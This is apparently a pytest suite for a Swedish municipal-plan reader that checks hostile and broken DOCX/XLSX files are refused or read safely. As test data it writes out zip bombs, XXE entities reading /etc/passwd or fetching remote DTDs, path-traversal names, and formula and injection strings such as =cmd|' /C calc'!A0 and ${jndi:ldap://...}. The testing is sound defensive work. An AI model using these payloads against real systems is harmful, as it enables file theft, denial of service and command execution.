"""Hostile and broken Office files: read, or refused with one Swedish sentence, quickly and in little memory; nothing outside is fetched."""

import io
import random
import socket
import struct
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st

from data.load import main, read_documents
from data.parsing.records import ParseError
from data.reading.refusal import Refused
from data.reading.source import read_source
from tests.conftest import ROOT, some
from tests.documents.content import blocks
from tests.documents.docx import build_docx
from tests.documents.parts import WORD, docx_of, docx_parts, paragraph, relations, text_cell, text_row, xlsx_parts, zipped
from tests.documents.provstad import DOCUMENTS
from tests.test_workbooks import CATALOGUE, heads_of, rows_of, tables_in, workbook

modest = settings(max_examples=60, deadline=None, derandomize=True, database=None, report_multiple_bugs=False)
QUICK = 4.0  # seconds of the processor; 1.6 on a quiet machine
SMALL = 300  # MB
HEAD = text_row("Nämnd", "Dokument", "År", "Indikator", "Årsmål", "Kommentar")


def refusal(path: Path, capsys: pytest.CaptureFixture[str]) -> str:
    """Return the sentence that refuses a file; nothing is written."""
    into = path.parent / "plan"
    assert main([str(path), "--into", str(into)]) == 1
    out, err = capsys.readouterr()
    assert out == "" and err.count("\n") == 1 and err.endswith(".\n") and path.name in err and not into.exists()
    return err


def sheet_row(name: str = "Andel", value: str = "1 %", comment: str = "", told: str = "") -> str:
    """Return a row of an indicator table."""
    return text_row("Provstad norra", "VP", "2024", name, value, *([comment] if comment else []), told=told)


def in_own_process(path: Path) -> tuple[str, float, float]:
    """Read a file in a process of its own; return what it says, the seconds it took and the MB it needed beyond the program itself."""
    program = (
        "import re, sys, time\nfrom pathlib import Path\nfrom data.building.catalogue import load_catalogue\n"
        "from data.load import read_documents\ncatalogue = load_catalogue()\n"
        # What getrusage calls a process's own peak begins at its parent's.
        "peak = lambda: int(re.search(r'VmHWM:\\s*(\\d+)', Path('/proc/self/status').read_text())[1]) / 1024\n"
        "before, begun = peak(), time.process_time()\n"
        "for outcome in read_documents(Path(sys.argv[1]), catalogue):\n    print(outcome.refusal or outcome.tables.id)\n"
        "print(time.process_time() - begun, peak() - before)"
    )
    done = subprocess.run([sys.executable, "-c", program, str(path)], cwd=ROOT, capture_output=True, text=True, timeout=60, check=True)
    *said, figures = done.stdout.splitlines()
    seconds, memory = map(float, figures.split())
    return "\n".join(said), seconds, memory


def bomb(path: Path, parts: dict[str, str | bytes], part: str, head: bytes, filling: bytes, size: int) -> Path:
    """Write a package one of whose parts unpacks to many bytes."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            if name != part:
                archive.writestr(name, text)
        with archive.open(zipfile.ZipInfo(part), "w", force_zip64=True) as file:
            file._compressor = __import__("zlib").compressobj(9, 8, -15)
            file._zinfo.compress_type = zipfile.ZIP_DEFLATED
            file.write(head)
            block = filling * ((1 << 20) // len(filling))
            for _piece in range(size // len(block)):
                file.write(block)
    return path


# --- which format a file is --------------------------------------------------------------------------------------------


def ole(*names: str) -> bytes:
    """Return a file in the older format whose directory has streams of these names."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in names)


OTHER = {
    "old Word": (ole("Root Entry", "WordDocument"), "äldre format (.doc); spara det som PDF eller DOCX"),
    "old Excel": (ole("Root Entry", "Workbook"), "äldre format (.xls); spara den som XLSX"),
    "locked": (ole("Root Entry", "DataSpaces", "EncryptedPackage"), "låst med lösenord; spara den utan lösenord"),
    "other old": (ole("Root Entry", "PowerPoint Document"), "äldre format"),
    "RTF": (b"{\\rtf1\\ansi Hej}", "RTF-dokument"),
    "an empty zip": (b"PK\x05\x06" + bytes(18), "tom zip-fil"),
}
PACKAGES = {
    "ODT": ({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}, "ODT"),
    "ODS": ({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}, "ODS"),
    "ODP": ({"mimetype": "application/vnd.oasis.opendocument.presentation"}, "OpenDocument"),
    "EPUB": ({"mimetype": "application/epub+zip"}, "EPUB"),
    "a zip": ({"plan.pdf": b"%PDF-1.7 hej"}, "är en zip-fil"),
    "a presentation": (
        {"_rels/.rels": relations(("a", "officeDocument", "ppt/p.xml")), "ppt/p.xml": "<p:presentation xmlns:p='urn:p'/>"}, "presentation",
    ),
    "a binary workbook": (
        {"_rels/.rels": relations(("a", "officeDocument", "xl/workbook.bin")), "xl/workbook.bin": b"\x83\x01\x00"}, "XLSB",
    ),
    "another document": ({"_rels/.rels": relations(("a", "officeDocument", "x.xml")), "x.xml": "<html/>"}, "skadad"),
    "nothing of its own": ({"[Content_Types].xml": "<Types/>"}, "skadad"),
}  # fmt: skip


@pytest.mark.parametrize(("content", "said"), OTHER.values(), ids=OTHER)
def test_other_formats_are_refused_with_what_to_do_whatever_they_are_called(content, said, tmp_path, capsys):
    path = tmp_path / "plan.docx"
    path.write_bytes(content)
    assert said in refusal(path, capsys)


@pytest.mark.parametrize(("parts", "said"), PACKAGES.values(), ids=PACKAGES)
@pytest.mark.parametrize("method", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
def test_other_packages_are_refused_with_what_to_do(parts, said, method, tmp_path, capsys):
    assert said in refusal(zipped(tmp_path / "plan.pdf", parts, method), capsys)


@pytest.mark.parametrize("name", ["rapport.txt", "rapport.docm", "rapport.dotx", "rapport.pdf"])
def test_a_docx_is_one_by_its_content_its_macros_and_pictures_unread(name, tmp_path):
    whole = build_docx(blocks(DOCUMENTS["T2"]), tmp_path / "hel.docx")
    with zipfile.ZipFile(whole) as archive:
        parts = {item: archive.read(item) for item in archive.namelist()}
    kind = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    usual = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(usual, kind)
    parts |= {"word/vbaProject.bin": b"Auto_Open", "word/media/image1.png": bytes(100)}
    assert read_source(zipped(tmp_path / name, parts)).lines == read_source(whole).lines


# --- what unpacks to more than it is -----------------------------------------------------------------------------------

UNPACKED = 150_000_000  # bytes
BODY = f'<w:document xmlns:w="{WORD}"><w:body>'.encode()
TEXT, WORKBOOK = docx_parts(paragraph("Hej"), styles=""), xlsx_parts(HEAD, styles="<styleSheet/>", sharedStrings="<sst/>")
BOMBS = {
    "zeros": (TEXT, "word/document.xml", b"", b"\0"),
    "blanks": (TEXT, "word/document.xml", BODY, b" "),
    "empty paragraphs": (TEXT, "word/document.xml", BODY, b"<w:p/>"),
    "attributes": (TEXT, "word/document.xml", BODY, b'<w:p w:a="1" w:b="2" w:c="3"/>'),
    "one text": (TEXT, "word/document.xml", BODY + b"<w:p><w:r><w:t>", "å\U0001f600".encode()),
    "one attribute": (TEXT, "word/document.xml", BODY[:-1] + b' w:a="', b"a"),
    "one comment": (TEXT, "word/document.xml", BODY + b"<!--", b"a>"),
    "depth": (TEXT, "word/document.xml", BODY, b"<w:sdt>"),
    "styles": (TEXT, "word/styles.xml", b"<styles>", b"<style/>"),
    "relations": (TEXT, "word/_rels/document.xml.rels", b"<Relationships>", b"<Relationship/>"),
    "shared texts": (WORKBOOK, "xl/sharedStrings.xml", b"<sst>", b"<si><t>a</t></si>"),
    "rows": (WORKBOOK, "xl/worksheets/sheet1.xml", b"<worksheet><sheetData>", b"<row><c><v>1</v></c></row>"),
    "empty rows": (WORKBOOK, "xl/worksheets/sheet1.xml", b"<worksheet><sheetData>", b"<row/>"),
    "one row": (WORKBOOK, "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row>", b"<c><v>1</v></c>"),
    "formats": (WORKBOOK, "xl/styles.xml", b"<styleSheet><cellXfs>", b"<xf/>"),
}


@pytest.mark.parametrize("name", some(BOMBS, 2))
def test_a_bomb_is_refused_at_once_in_little_memory(name, tmp_path):
    path = bomb(tmp_path / "bomb.docx", *BOMBS[name], UNPACKED)
    assert path.stat().st_size < 20_000_000
    said, seconds, memory = in_own_process(path)
    assert said.startswith("Filen bomb.docx ") and said.endswith(".") and "\n" not in said
    assert seconds < QUICK and memory < SMALL, (seconds, memory)
    if name in ("blanks", "one text"):
        assert "packas upp till mer" in said


def test_ten_gigabytes_of_zeros_that_no_part_refers_to_are_never_unpacked(tmp_path):
    # A member whose size is only declared: nothing of it is read.
    parts = docx_parts(paragraph("Hej"))
    path = zipped(tmp_path / "stor.docx", parts | {"word/media/noll.bin": bytes(1000)})
    raw = bytearray(path.read_bytes())
    at = raw.rfind(b"PK\x01\x02")
    raw[at + 24 : at + 28] = struct.pack("<L", 0xFFFFFFF0)
    path.write_bytes(bytes(raw))
    assert read_source(path).lines == ("Hej",)


@pytest.mark.parametrize("count", [60_000])
def test_a_zip_of_very_many_parts_is_refused_before_they_are_listed(count, tmp_path):
    path = tmp_path / "manga.docx"
    with zipfile.ZipFile(path, "w") as archive:
        for number in range(count):
            archive.writestr(f"word/{number}.xml", "")
    said, seconds, memory = in_own_process(path)
    assert "packas upp till mer" in said and seconds < QUICK and memory < SMALL
    # The record at the end says less than there is: then it is no whole zip.
    raw = bytearray(path.read_bytes())
    raw[-10:-6] = struct.pack("<L", 1000)
    path.write_bytes(bytes(raw))
    said, seconds, memory = in_own_process(path)
    assert said.startswith("Filen manga.docx ") and seconds < QUICK and memory < SMALL


def test_a_zip_in_a_zip_is_not_unpacked(tmp_path, capsys):
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("noll", bytes(10_000_000))
    assert "är en zip-fil" in refusal(zipped(tmp_path / "dokument.docx", {"inre.zip": inner.getvalue()}), capsys)


def test_other_compression_than_offices_own_is_refused(tmp_path, capsys):
    for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        assert "skadad" in refusal(zipped(tmp_path / "dokument.docx", docx_parts(paragraph("Hej")), method), capsys)


def test_two_hundred_megabytes_of_pictures_are_not_read(tmp_path):
    path = tmp_path / "bilder.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, text in docx_parts(paragraph("Verksamhetsplan 2024")).items():
            archive.writestr(name, text)
        with archive.open("word/media/bild.bin", "w") as file:
            for _piece in range(200):
                file.write(bytes(1 << 20))
    said, seconds, memory = in_own_process(path)
    assert "ingen verksamhetsplan eller rapport" in said and seconds < QUICK and memory < SMALL
    path.unlink()


def test_a_file_that_is_too_large_is_refused_unread(tmp_path, capsys, monkeypatch):
    monkeypatch.setattr("data.reading.package.MAX_BYTES", 100)
    assert "större än" in refusal(docx_of(tmp_path / "stor.docx", paragraph("Hej")), capsys)


# --- what asks for something outside, or for more of itself ------------------------------------------------------------

ENTITIES = {
    "billion laughs": '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>',
    "a file": '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "an address": '<!DOCTYPE d SYSTEM "http://provstad.invalid/d.dtd">',
    "a parameter": '<!DOCTYPE d [<!ENTITY % a SYSTEM "http://provstad.invalid/d.dtd"> %a;]>',
}


@pytest.mark.parametrize("told", ENTITIES.values(), ids=ENTITIES)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_document_type_is_refused_in_every_part(told, encoding, tmp_path, capsys):
    for parts, part in (
        (docx_parts(paragraph("&amp;")), "word/document.xml"), (docx_parts(paragraph("Hej")), "_rels/.rels"),
        (docx_parts(paragraph("Hej"), styles=""), "word/styles.xml"), (xlsx_parts(HEAD + sheet_row()), "xl/worksheets/sheet1.xml"),
        (xlsx_parts(HEAD + sheet_row()), "xl/workbook.xml"),
    ):  # fmt: skip
        head = f'<?xml version="1.0" encoding="{encoding}"?>' + "\n" * 3 + told
        parts[part] = (head + str(parts[part])).encode(encoding)
        assert "dokumenttypsdefinition" in refusal(zipped(tmp_path / "dokument.docx", parts), capsys)


@pytest.fixture
def offline(monkeypatch):
    """Let nothing be fetched: whoever tries fails the test."""

    def fetched(*_parts, **_options):
        pytest.fail("something was fetched")

    monkeypatch.setattr(socket, "socket", fetched)
    monkeypatch.setattr(socket, "create_connection", fetched)


def test_nothing_outside_the_file_is_fetched_or_opened(offline, tmp_path):
    parts = docx_parts(paragraph("Hej"))
    parts["word/_rels/document.xml.rels"] = relations(
        ("t", "attachedTemplate", "http://provstad.invalid/mall.dotm"), ("s", "styles", "file:///etc/passwd"),
        ("n", "numbering", "../../../../etc/passwd"), ("i", "image", "\\\\provstad.invalid\\c$\\bild.png"), ("u", "styles", "/etc/passwd"),
    )  # fmt: skip
    assert read_source(zipped(tmp_path / "dokument.docx", parts)).lines == ("Hej",)


def test_what_is_said_to_lie_outside_is_not_read_though_a_part_has_its_name(tmp_path):
    body = paragraph("Hej", '<w:numPr><w:numId w:val="1"/></w:numPr>')
    numbering = (
        '<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
    )
    parts = docx_parts(body, numbering=numbering)
    assert read_source(zipped(tmp_path / "inne.docx", parts)).lines == ("1. Hej",)
    told = str(parts["word/_rels/document.xml.rels"]).replace('Target="numbering.xml"', 'Target="numbering.xml" TargetMode="External"')
    assert read_source(zipped(tmp_path / "ute.docx", parts | {"word/_rels/document.xml.rels": told})).lines == ("Hej",)


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "C:\\fil.xml", "a\x00b", "word\\document.xml", "..", ""])
def test_paths_in_names_are_names_and_nothing_is_written(name, tmp_path):
    path = tmp_path / "in" / "dokument.docx"
    path.parent.mkdir()
    zipped(path, docx_parts(paragraph("Hej")) | {name or " ": "<a/>"})
    assert read_source(path).lines == ("Hej",)
    parts = docx_parts(paragraph("Hej"))
    parts["_rels/.rels"] = relations(("a", "officeDocument", f"../{name}".replace("\x00", "")))
    assert read_source(zipped(path, parts)).lines == ("Hej",)  # the usual place
    assert [item.name for item in tmp_path.rglob("*") if item.is_file()] == ["dokument.docx"]


FORMULAS = [
    '=HYPERLINK("http://provstad.invalid","hej")', '=WEBSERVICE("http://provstad.invalid")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)", "-2+3", '<script>alert("hej")</script>', "{{7*7}}", "${jndi:ldap://provstad.invalid}", "'; drop table goal; --",
]  # fmt: skip


def test_scripts_and_formulas_in_texts_are_texts(offline, tmp_path):
    path = zipped(tmp_path / "tabell.xlsx", xlsx_parts(HEAD + "".join(sheet_row(text, "1 %", text) for text in FORMULAS)))
    (tables,) = tables_in(path).values()
    assert [row["name"] for row in tables.rows["indicators"]] == [" ".join(text.split()) for text in FORMULAS]
    assert [row["text"] for row in tables.rows["texts"]] == FORMULAS


def test_a_formula_is_never_worked_out_its_saved_value_is_text(offline, tmp_path, capsys):
    saved = '<c t="str"><f>WEBSERVICE("http://provstad.invalid")</f><v>12 %</v></c>'
    row = text_row("Provstad norra", "VP", "2024", "Andel", saved)
    (tables,) = tables_in(zipped(tmp_path / "tabell.xlsx", xlsx_parts(HEAD + row))).values()
    assert tables.rows["indicators"][0]["arsmal"] == "12 %"
    assert ["är en formel" in item["problem"] for item in tables.document["warnings"]] == [True]
    # A program that leaves the working out to Excel has written a value of its own making.
    path = tmp_path / "skriven.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet()
        for at, text in enumerate(("Nämnd", "Dokument", "År", "Indikator", "Årsmål")):
            sheet.write(0, at, text)
        for at, text in enumerate(("Provstad norra", "VP", "2024", "Andel")):
            sheet.write(1, at, text)
        sheet.write_formula(1, 4, "=DDE(1)")
    assert "formel utan sparat värde" in refusal(path, capsys)


def test_marks_that_turn_a_figure_round_are_removed_and_told(tmp_path):
    row = sheet_row("Andel \u200bprov", "\u202e08\u202c %") + sheet_row("Annan", "_x202E_9 %")
    (tables,) = tables_in(zipped(tmp_path / "tabell.xlsx", xlsx_parts(HEAD + row))).values()
    assert [(item["name"], item["arsmal"]) for item in tables.rows["indicators"]] == [("Andel prov", "08 %"), ("Annan", "9 %")]
    told = [(item["line"], item["problem"].split(" hade ")[0]) for item in tables.document["warnings"] if "osynliga" in item["problem"]]
    assert told == [(2, "cellen D2"), (2, "cellen E2"), (3, "cellen E3")]


# --- broken ------------------------------------------------------------------------------------------------------------


def test_rows_and_columns_that_are_only_declared_cost_nothing(tmp_path):
    before = '<dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" hidden="0"/></cols>'
    parts = xlsx_parts(HEAD + sheet_row() + '<row r="1048576"/>', before=before)
    path = zipped(tmp_path / "tabell.xlsx", parts)
    said, seconds, memory = in_own_process(path)
    assert (said, seconds < 1, memory < 50) == ("provstad-norra-vp-2024", True, True)


@pytest.mark.parametrize("tag", ["w:sdt", "w:r", "w:ins"])
def test_parts_that_lie_very_deep_in_one_another_are_refused(tag, tmp_path, capsys):
    inside = f"<w:sdtContent>{paragraph('Hej')}</w:sdtContent>" if tag == "w:sdt" else "<w:r><w:t>Hej</w:t></w:r>"

    def nested(depth: int) -> Path:
        text = f"<{tag}>" * depth + inside + f"</{tag}>" * depth
        return docx_of(tmp_path / "djup.docx", text if tag == "w:sdt" else f"<w:p>{text}</w:p>")

    assert read_source(nested(150)).lines == ("Hej",)
    assert "nästlad" in refusal(nested(5000), capsys)
    row = "<row>" * 5000 + "</row>" * 5000
    assert "nästlad" in refusal(zipped(tmp_path / "djup.xlsx", xlsx_parts(HEAD + row)), capsys)


CELLS = {
    "an error": ('<c t="e"><v>#N/A</v></c>', "felet #N/A"),
    "a text that is not there": ('<c t="s"><v>7</v></c>', "skadad"),
    "a text before the first": ('<c t="s"><v>-1</v></c>', "skadad"),
    "no number": ("<c><v>åtta</v></c>", "skadad"),
    "endless": ("<c><v>1e999</v></c>", "skadad"),
    "not a number": ("<c><v>nan</v></c>", "skadad"),
    "a formula without value": ("<c><f>1+1</f></c>", "utan sparat värde"),
    "a formula with an empty value": ("<c><f>1+1</f><v></v></c>", "utan sparat värde"),
    "a column that no sheet has": ('<c r="ZZZ2"><v>1</v></c>', "skadad"),
}


@pytest.mark.parametrize(("cell", "said"), CELLS.values(), ids=CELLS)
def test_a_cell_that_says_nothing_is_refused(cell, said, tmp_path, capsys):
    row = text_row("Provstad norra", "VP", "2024", "Andel", cell)
    assert said in refusal(zipped(tmp_path / "tabell.xlsx", xlsx_parts(HEAD + row)), capsys)


ODD = ["1e308", "-1e-300", "123456789012345678901234567890", "0x10", "1_000", "٣", ".5", "+5", " 5 "]


@pytest.mark.parametrize("value", ODD)
def test_an_odd_number_is_read_as_a_number_or_refused(value, tmp_path):
    styles = '<styleSheet><numFmts><numFmt numFmtId="200" formatCode="{}"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>'
    for form in ("General", "0%", "#,##0.000", "yyyy-mm-dd", '"' + "x" * 300, "0" * 400, ";;;", "[", "\\", "#.#.#", "%%%0", "?" * 50):
        parts = xlsx_parts(HEAD + text_row("Provstad norra", "VP", "2024", "Andel", f'<c s="0"><v>{value}</v></c>'))
        parts["xl/_rels/workbook.xml.rels"] = relations(("s", "worksheet", "worksheets/sheet1.xml"), ("t", "styles", "styles.xml"))
        parts["xl/styles.xml"] = styles.format(form.replace('"', "&quot;"))
        (outcome,) = read_documents(zipped(tmp_path / "tabell.xlsx", parts), CATALOGUE)
        assert outcome.tables or outcome.refusal.endswith(".")


@pytest.mark.parametrize("cut", [0.02, 0.3, 0.6, 0.9, 0.999])
@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_a_file_that_was_cut_is_refused(kind, cut, tmp_path, capsys):
    made = build_docx(blocks(DOCUMENTS["T2"]), tmp_path / "hel") if kind == "docx" else workbook(tmp_path / "hel", rows_of(DOCUMENTS["T2"]))
    path = tmp_path / f"avbruten.{kind}"
    path.write_bytes(made.read_bytes()[: int(made.stat().st_size * cut)])
    assert "skadad" in refusal(path, capsys)


@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_a_part_that_is_missing_or_empty_is_refused_or_done_without(kind, tmp_path, capsys):
    made = build_docx(blocks(DOCUMENTS["T2"]), tmp_path / "hel") if kind == "docx" else workbook(tmp_path / "hel", rows_of(DOCUMENTS["T2"]))
    with zipfile.ZipFile(made) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    needed = {"docx": {"word/document.xml"}, "xlsx": {"xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/_rels/workbook.xml.rels"}}[kind]
    for gone in parts:
        for left in ({}, {gone: b""}):
            path = zipped(tmp_path / f"utan.{kind}", {name: text for name, text in parts.items() if name != gone} | left)
            outcomes = read_documents(path, CATALOGUE)
            assert all(outcome.tables or (outcome.refusal.endswith(".") and "\n" not in outcome.refusal) for outcome in outcomes), gone
            if gone in needed:
                assert not outcomes[0].tables


def test_a_locked_member_is_refused(tmp_path, capsys):
    path = docx_of(tmp_path / "last.docx", paragraph("Hej"))
    raw = bytearray(path.read_bytes())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(mark)
        while at >= 0:
            raw[at + place] |= 1
            at = raw.find(mark, at + 1)
    path.write_bytes(bytes(raw))
    assert "skadad" in refusal(path, capsys)


# --- anything at all ---------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def valid(tmp_path_factory) -> list[bytes]:
    """A DOCX, an indicator table and a small record, whole."""
    folder = tmp_path_factory.mktemp("hela")
    rows = rows_of(DOCUMENTS["T2"])
    return [
        build_docx(blocks(DOCUMENTS["T2"]), folder / "a.docx").read_bytes(),
        workbook(folder / "b.xlsx", rows, heads_of(rows)).read_bytes(),
        zipped(folder / "c.xlsx", xlsx_parts(HEAD + sheet_row("Andel", "=1") + sheet_row("Antal", told=' hidden="1"'))).read_bytes(),
    ]


def _read(path: Path) -> None:
    """Read a file as far as it goes: nothing but the project's own exceptions, and no surprise in what is read."""
    begun = time.process_time()
    for outcome in read_documents(path, CATALOGUE):
        assert bool(outcome.tables) != bool(outcome.refusal)
        if outcome.refusal:
            assert "\n" not in outcome.refusal and outcome.refusal.endswith(".")
        else:
            str(outcome.tables.rows).encode("utf-8")
    try:
        source = read_source(path)
        assert not any("\n" in line for line in source.lines)
    except (Refused, ParseError):
        pass
    assert time.process_time() - begun < 5


@modest
@given(which=st.integers(0, 2), garbage=st.binary(max_size=300), place=st.floats(0, 1), seed=st.integers(0, 2**32))
def test_bytes_changed_anywhere_raise_nothing_but_a_refusal(which, garbage, place, seed, valid, tmp_path_factory):
    whole = bytearray(valid[which])
    at = int(place * (len(whole) - 1))
    whole[at : at + len(garbage)] = garbage
    chance = random.Random(seed)
    for _change in range(chance.randrange(20)):
        whole[chance.randrange(len(whole))] = chance.randrange(256)
    path = tmp_path_factory.mktemp("skadad") / "skadad.docx"
    path.write_bytes(bytes(whole))
    _read(path)


TAGS = "w:p w:tbl w:tr w:tc w:sdt w:gridSpan w:vMerge w:ins w:del w:r w:t w:numPr w:br row c v f is si mergeCell".split()  # noqa: SIM905
VALUES = ["", "0", "-1", "99999999", "1e5", "A1", "A1:B2", "s", "str", "e", "b", "d", "inlineStr", "restart", "åäö", "\u202e1"]


@modest
@given(which=st.integers(0, 2), seed=st.integers(0, 2**32))
def test_parts_and_elements_changed_anywhere_raise_nothing_but_a_refusal(which, seed, valid, tmp_path_factory):
    chance = random.Random(seed)
    with zipfile.ZipFile(io.BytesIO(valid[which])) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    names = list(parts)
    for _change in range(chance.randrange(1, 5)):
        name = chance.choice(names)
        text = parts.get(name, b"").decode("utf-8", "replace")
        pieces = text.split("<")
        at = chance.randrange(len(pieces))
        action = chance.randrange(7)
        if action == 0:
            parts.pop(name, None)
            continue
        if action == 1:
            text = "<".join(pieces[:at] + pieces[at + 1 :])
        elif action == 2:
            text = "<".join([*pieces[:at], f"{chance.choice(TAGS)}/>", *pieces[at:]])
        elif action == 3:
            text = "<".join([*pieces[:at], *pieces[at : at + 9] * chance.randrange(2, 30), *pieces[at + 9 :]])
        elif action == 4:
            quoted = text.split('"')
            if len(quoted) > 2:
                quoted[chance.randrange(1, len(quoted) - 1, 2)] = chance.choice(VALUES)
            text = '"'.join(quoted)
        elif action == 5:
            parts[chance.choice(names)] = text.encode()
        else:
            pieces[at] = pieces[at].partition(">")[0] + ">" + chance.choice(VALUES)
            text = "<".join(pieces)
        parts[name] = text.encode("utf-8", "replace")
    _read(zipped(tmp_path_factory.mktemp("andrad") / "andrad.docx", parts))


SHEET_TEXTS = st.sampled_from(
    [*FORMULAS, "Nämnd", "År", "Indikator", "Årsmål", "VP", "2024", "80 %", "", "\u202e1", "../x", "1.1 Mål", "x" * 300, "Period"]
)


@modest
@given(rows=st.lists(st.lists(SHEET_TEXTS, max_size=9), max_size=9), with_head=st.booleans())
def test_any_table_is_read_or_refused(rows, with_head, tmp_path_factory):
    book = openpyxl.Workbook()
    if with_head:
        book.active.append(["Nämnd", "Dokument", "År", "Indikator", "Årsmål", "Nämndmål", "Period", "Kommentar"])
    for cells in rows:
        book.active.append(cells)
    for cell in (cell for row in book.active.iter_rows() for cell in row if cell.data_type == "f"):
        cell.data_type = "s"
    path = tmp_path_factory.mktemp("tabell") / "tabell.xlsx"
    book.save(path)
    _read(path)


def test_a_cell_that_holds_its_text_is_read_like_any_other(tmp_path):
    rich = '<c t="inlineStr"><is><r><t>80</t></r><r><t xml:space="preserve"> %</t></r><rPh><t>åttio</t></rPh></is></c>'
    row = text_row("Provstad norra", "VP", "2024", text_cell("Andel"), rich)
    (tables,) = tables_in(zipped(tmp_path / "tabell.xlsx", xlsx_parts(HEAD + row))).values()
    assert tables.rows["indicators"][0]["arsmal"] == "80 %"
